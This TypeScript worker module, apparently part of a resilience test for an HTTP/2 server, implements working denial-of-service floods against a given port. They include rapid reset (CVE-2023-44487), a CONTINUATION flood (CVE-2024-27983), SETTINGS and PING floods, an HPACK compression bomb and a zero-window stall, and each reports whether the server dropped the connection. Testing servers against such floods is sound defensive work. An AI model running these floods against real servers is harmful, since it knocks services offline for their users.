// Connections that speak HTTP/2 so as to cost more than they pay; run beside the honest, in a thread of their own.
import { parentPort, workerData } from 'node:worker_threads'
import { endMs, flags, flood, frame, getHead, literal, number, openHttp2 } from './http2-frames.ts'

type Attack = (port: number) => Promise<boolean>

/** Each says whether the connection was ended over it. */
export const attacks: Record<string, Attack> = {
  'rapid reset (CVE-2023-44487)': async (port) => {
    const socket = await openHttp2(port)
    return flood(
      socket,
      20_000,
      (i) => {
        const stream = 2 * i + 1
        const head = frame('headers', flags.endHeaders | flags.endStream, stream, getHead)
        return Buffer.concat([head, frame('reset', 0, stream, number(8))])
      },
      endMs,
    )
  },
  'a flood of CONTINUATION (CVE-2024-27983)': async (port) => {
    const socket = await openHttp2(port)
    socket.write(frame('headers', 0, 1, getHead))
    const part = frame('continuation', 0, 1, literal('x-part', 'y'.repeat(1_000)))
    return flood(socket, 100_000, () => part, endMs)
  },
  'a flood of SETTINGS': async (port) => {
    const socket = await openHttp2(port)
    socket.pause()
    return flood(socket, 200_000, () => frame('settings', 0, 0), endMs)
  },
  'a flood of PING that nobody reads the answers of': async (port) => {
    const socket = await openHttp2(port)
    socket.pause()
    return flood(socket, 200_000, () => frame('ping', 0, 0, Buffer.alloc(8)), endMs)
  },
  'a bomb of headers that compress well': async (port) => {
    const socket = await openHttp2(port)
    // One field of 3 KB is put into the table, and then named by one octet as often as a frame holds.
    const value = 'b'.repeat(3_000)
    const first = Buffer.concat([
      Buffer.from([0x40, 1]),
      Buffer.from('x'),
      Buffer.from([127, 0xb9, 0x16]),
      Buffer.from(value),
    ])
    const bomb = Buffer.concat([getHead, first, Buffer.alloc(12_000, 0xbe)])
    return flood(socket, 200, (i) => frame('headers', flags.endHeaders | flags.endStream, 2 * i + 1, bomb))
  },
  'answers that nobody has a window for': async (port) => {
    // SETTINGS_INITIAL_WINDOW_SIZE 0
    const socket = await openHttp2(port, Buffer.concat([Buffer.from([0, 4]), number(0)]))
    return flood(socket, 500, (i) => frame('headers', flags.endHeaders | flags.endStream, 2 * i + 1, getHead))
  },
}

/** What a thread is told. */
export interface Order {
  readonly name: string
  readonly port: number
  readonly connections: number
}

if (parentPort !== null) {
  const { name, port, connections } = workerData as Order
  const attack = attacks[name] as Attack
  const ended = await Promise.all(Array.from({ length: connections }, () => attack(port)))
  parentPort.postMessage(ended, [])
}
